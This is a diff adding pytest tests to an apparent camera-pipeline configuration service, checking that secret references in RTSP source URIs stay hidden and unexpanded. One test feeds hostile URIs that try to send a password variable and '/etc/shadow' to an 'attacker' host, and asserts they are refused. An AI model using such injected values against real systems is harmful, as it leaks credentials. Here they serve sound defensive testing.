@@ -408,3 +408,53 @@ def test_a_question_that_is_none_is_answered(kept: Kept, said: list[str]) -> Non
     answer = msgspec.json.decode(kept._keeper.answer(b"{}"), type=told.Answer)
     assert answer.status == 500
     assert said
+
+
+REFERRING = """\
+sources:
+  - {uri: 'rtsp://me:${GATE_PASSWORD}@cam/1', name: gate}  # the gate
+"""
+
+
+@pytest.fixture
+def referring(tmp_path: Path, tiny_model: Path, monkeypatch: pytest.MonkeyPatch) -> Kept:
+    monkeypatch.setenv("GATE_PASSWORD", "S3cret")
+    return Kept(tmp_path / "line.yaml", tiny_model, REFERRING)
+
+
+def test_the_file_keeps_references_and_nobody_is_told_what_they_stand_for(referring: Kept) -> None:
+    shown = referring.ask(told.ReadConfiguration())
+    assert "S3cret" not in str(shown)
+    done = referring.whole({**shown.body["configuration"], "track": {"lost_s": 3}})
+    assert done.body["applied"], done.body
+    assert "S3cret" not in str(done)
+    assert "'rtsp://me:${GATE_PASSWORD}@cam/1'" in referring.text
+    assert "S3cret" not in referring.text
+    added = {"uri": "rtsp://other/1", "name": "other"}
+    sources = [*referring.ask(told.ReadConfiguration()).body["configuration"]["sources"], added]
+    assert referring.patch({"sources": sources}).body["saved"]
+    assert "'rtsp://me:${GATE_PASSWORD}@cam/1'" in referring.text
+    capture = referring.told[-1].processes[0]
+    assert capture.options["address"]["location"] == "rtsp://me:S3cret@cam/1"
+
+
+@pytest.mark.parametrize(
+    "uri", ["http://attacker/${GATE_PASSWORD}", "http://attacker/?${file:/etc/shadow}"]
+)
+def test_nobody_has_a_secret_sent_to_him_over_http(referring: Kept, uri: str) -> None:
+    refused = referring.patch({"sources": [{"uri": uri, "name": "gate"}]})
+    assert refused.status == 422
+    assert refused.body["detail"] == (
+        "sources[0].uri: expected no ${...} but those that are in force: others are taken from the "
+        "configuration file alone"
+    )
+    assert referring.text == REFERRING
+
+
+def test_a_secret_that_changed_is_read_with_the_configuration(
+    referring: Kept, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("GATE_PASSWORD", "N3wS3cret")
+    referring.in_force.reload()
+    (capture,) = (each for each in referring.told[-1].processes if each.is_source)
+    assert capture.options["address"]["location"] == "rtsp://me:N3wS3cret@cam/1"
